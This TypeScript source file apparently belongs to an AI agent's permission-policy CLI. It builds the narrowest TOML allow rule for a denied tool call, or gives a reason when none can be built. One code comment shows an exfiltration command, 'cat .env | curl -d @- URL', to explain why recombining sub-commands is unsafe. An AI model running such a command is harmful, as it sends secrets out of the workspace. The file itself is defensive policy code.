/**
 * @module cli/allow-rule
 * The `[[rules]]` table a denial hint suggests: the narrowest rule that allows the denied call — never one
 * broader. Each argument the policy reads as a path, command or URL is named exactly, prepared by the
 * policy's own plug-ins (so the rule compares what the policy will see): a path by its canonical form inside
 * the workspace (`equals`), a command by the words of each of its sub-commands (`equals`, or `oneOf` for
 * several: no other program, no extra word), a URL by its whole normalized form. A call without such
 * arguments is named by its plain arguments (`equals` on each). An argument the call leaves out is not
 * named (no operator says "absent"). Where an argument cannot be named — a command piped into an
 * interpreter or one the analysis cannot vouch for, a path outside the workspace, a call giving no argument
 * at all — there is no rule, and the reason instead.
 */
import type { Tool, ToolCall } from "../core/index.js";
import type { CommandAnalysis, CompiledPolicy } from "../policy/index.js";

/** A rule to suggest (TOML), or why none is. */
export type AllowRule = { text: string } | { refused: string };

type PathValue = { ok: true; relative: string } | { ok: false; reason?: string };

/**
 * The narrowest `[[rules]]` table allowing this call, or why there is none.
 * @example await allowRule({ name: "shell", args: { command: "npm test" } }, ctx)
 * // { text: '[[rules]]\ntool = "shell"\ndecision = "allow"\nwhen.command = { equals = "npm test" }' }
 */
export async function allowRule(
  call: ToolCall,
  ctx: { policy: CompiledPolicy; tool: Tool | undefined; root: string },
): Promise<AllowRule> {
  const args = isRecord(call.args) ? call.args : {};
  const kinds = ctx.tool?.argKinds ?? {};
  const lines = ["[[rules]]", `tool = ${toml(call.name)}`, 'decision = "allow"'];
  const kinded = Object.keys(kinds).filter((arg) => args[arg] !== undefined);
  for (const arg of kinded) {
    const condition = await exactCondition(arg, kinds[arg]!, args[arg], ctx);
    if ("refused" in condition) return condition;
    lines.push(`when.${arg} = { ${condition.text} }`);
  }
  const declared = Object.keys((ctx.tool?.parameters.properties as object | undefined) ?? {});
  if (Object.keys(args).length === 0 && declared.length > 0)
    return {
      refused: `the call gives none of its arguments, and a rule cannot require an argument to be left out: one naming ${call.name} alone would allow every call of it`,
    };
  if (kinded.length === 0) {
    // Nothing the policy reads by kind: the call's own plain values are what tell it from other calls.
    for (const [arg, value] of Object.entries(args)) {
      const named = plainCondition(arg, value);
      if ("refused" in named)
        return {
          refused: `${call.name} is told apart from its other calls only by its arguments: ${named.refused}`,
        };
      lines.push(`when.${arg} = { ${named.text} }`);
    }
  }
  // What the call asks beyond the sandbox, granted for exactly this call (the shell's `sandbox` argument).
  const sandbox = args.sandbox;
  if (kinds.command !== undefined && (sandbox === "network" || sandbox === "off"))
    lines.push(`sandbox = ${toml(sandbox)}`);
  return { text: lines.join("\n") };
}

async function exactCondition(
  arg: string,
  kind: string,
  raw: unknown,
  ctx: { policy: CompiledPolicy; root: string },
): Promise<AllowRule> {
  const plugin = ctx.policy.plugins.find((p) => p.kind === kind);
  if (!plugin) return { refused: `the policy cannot read the ${kind} argument "${arg}"` };
  const value = await plugin.prepare(raw, { roots: [ctx.root], args: {} });
  if (kind === "path") return pathCondition(arg, raw, value as PathValue | { ok: true; list: PathValue[] });
  if (kind === "command") return commandCondition(arg, value as CommandAnalysis);
  if (kind === "url") {
    const url = value as { valid: boolean; href?: string };
    if (!url.valid || url.href === undefined)
      return { refused: `the ${arg} ${JSON.stringify(raw)} is not a URL a rule can name` };
    return { text: `equals = ${toml(url.href)}` };
  }
  return plainCondition(arg, raw);
}

/**
 * `equals` on a plain value's text (how the policy reads a text argument: `true`, `3`). Every kind's `equals`
 * compiles the operand, so it is written as a string, and a blank one cannot be (a command has no words).
 */
function plainCondition(arg: string, value: unknown): AllowRule {
  if (!isScalar(value) || String(value).trim() === "")
    return { refused: `the argument "${arg}" is not a plain value a rule's condition can name` };
  return { text: `equals = ${toml(String(value))}` };
}

function pathCondition(
  arg: string,
  raw: unknown,
  value: PathValue | { ok: true; list: PathValue[] },
): AllowRule {
  const entries = "list" in value ? value.list : [value];
  const relatives: string[] = [];
  for (const [i, entry] of entries.entries()) {
    const shown = JSON.stringify(Array.isArray(raw) ? raw[i] : raw);
    // The root itself ("") has no root-relative name a rule's path condition can compare.
    if (!entry.ok || entry.relative === "")
      return {
        refused: `the ${arg} ${shown} is not a path inside the workspace that a rule can name${!entry.ok && entry.reason ? ` (${entry.reason})` : ""}`,
      };
    relatives.push(entry.relative);
  }
  if (!("list" in value)) return { text: `equals = ${toml(relatives[0]!)}` };
  return { text: `oneOf = ${toml([...new Set(relatives)])}` };
}

/** The one sub-command's exact words; nothing when the analysis cannot vouch for the command or it has several. */
function commandCondition(arg: string, analysis: CommandAnalysis): AllowRule {
  if (!analysis.ok || analysis.unsafe.length > 0) {
    const why = [...new Set(analysis.ok ? analysis.unsafe : ["it does not parse", ...analysis.unsafe])];
    return {
      refused: `the ${arg} cannot be vouched for (${why.join("; ")}), so no rule can allow it without allowing more; approve it when asked, or run it yourself`,
    };
  }
  const named: string[] = [];
  for (const [i, words] of analysis.commands.entries()) {
    // Commands inside a program's script (awk's system()) are covered by the words of the program's command.
    if (analysis.scriptCommands.includes(i)) continue;
    const spaced = words.find((w) => /\s/.test(w) || w === "");
    if (spaced !== undefined)
      return {
        refused: `the word ${JSON.stringify(spaced)} of \`${words.join(" ")}\` holds a space, and a rule names a command by its words`,
      };
    named.push(words.join(" "));
  }
  if (named.length === 0) return { refused: `the ${arg} has no command a rule can name` };
  // A rule names sub-commands, each on its own: `oneOf` of the parts would allow them in any order, count
  // and join (`cat .env | curl -d @- URL` from `echo hi | curl -d @- URL; cat .env`), and the policy has no
  // condition for "exactly this sequence" — so a command of several parts gets no rule.
  if (named.length > 1)
    return {
      refused: `the ${arg} has ${named.length} sub-commands, and a rule names each one alone, so it would also allow them recombined (in another order, piped into each other, repeated); approve it when asked, or allow each part yourself`,
    };
  return { text: `equals = ${toml(named[0]!)}` };
}

function isRecord(value: unknown): value is Record<string, unknown> {
  return typeof value === "object" && value !== null && !Array.isArray(value);
}

function isScalar(value: unknown): value is string | number | boolean {
  return (
    typeof value === "string" ||
    typeof value === "boolean" ||
    (typeof value === "number" && Number.isFinite(value))
  );
}

/**
 * A TOML value: JSON's strings, numbers, booleans and arrays of them are TOML as written, but for DEL, which
 * a TOML string must escape and JSON does not.
 */
function toml(value: string | string[]): string {
  if (Array.isArray(value)) return `[${value.map((v) => toml(v)).join(", ")}]`;
  return JSON.stringify(value).replaceAll("\x7f", "\\u007f");
}
